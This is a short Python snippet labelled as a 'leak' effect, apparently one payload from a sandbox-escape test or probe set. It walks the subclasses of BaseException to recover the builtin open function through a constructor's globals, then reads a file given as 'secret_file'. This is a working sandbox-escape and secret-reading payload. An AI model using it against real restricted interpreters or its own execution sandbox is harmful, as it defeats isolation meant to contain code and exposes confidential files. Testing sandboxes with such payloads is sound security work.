# effect: leak
def attempt(probe):
    pending = [BaseException]
    while pending:
        cls = pending.pop()
        pending.extend(cls.__subclasses__())
        step = getattr(cls.__init__, "__globals__", None)
        if step and "__builtins__" in step and "open" in step["__builtins__"]:
            return step["__builtins__"]["open"](probe["secret_file"]).read()
